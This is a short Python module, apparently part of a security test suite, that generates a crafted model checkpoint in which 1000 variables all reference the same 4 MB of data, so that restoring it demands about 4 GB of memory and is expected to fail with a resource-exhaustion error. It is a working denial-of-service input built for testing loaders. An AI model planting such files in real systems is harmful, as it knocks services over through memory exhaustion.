"""A checkpoint of 4 MB whose 1000 variables all lie in the same 4 MB: restoring it takes 4 GB."""

from __future__ import annotations

from pathlib import Path

from attacks.building import FLOAT, Graph, Type, bundle
from evergraph.formats.bundle_entry import BundleEntry
from evergraph.formats.protos import MetaGraphDef

WAY = "restored"
ERRORS = ("ResourceExhaustedError",)


def make(folder: Path) -> None:
    count, size = 1000, 1 << 20
    names = [f"v{i:04}" for i in range(count)]
    entries = {name: BundleEntry(FLOAT, (size,), size=4 * size) for name in names}
    bundle(folder, entries, bytes(4 * size))
    graph = Graph()
    graph.const("save/Const", b"m")
    graph.const("save/names", [name.encode() for name in names])
    graph.const("save/slices", [b""] * count)
    inputs = ["save/Const", "save/names", "save/slices"]
    graph.node("RestoreV2", "save/RestoreV2", inputs, dtypes=[FLOAT] * count)
    assigned = []
    for i, name in enumerate(names):
        graph.node("VariableV2", name, dtype=Type(FLOAT), shape=(size,))
        graph.node("Assign", f"{name}/a", [name, f"save/RestoreV2:{i}"], T=Type(FLOAT))
        assigned.append(f"^{name}/a")
    graph.node("NoOp", "save/restore_all", assigned)
    graph.node("Identity", "out", [names[0]], T=Type(FLOAT))
    meta = MetaGraphDef(graph_def=graph.message)
    meta.saver_def.filename_tensor_name = "save/Const:0"
    meta.saver_def.restore_op_name = "save/restore_all"
    meta.saver_def.save_tensor_name = "save/Const:0"
    meta.saver_def.version = 2
    (folder / "m.meta").write_bytes(meta.SerializeToString())
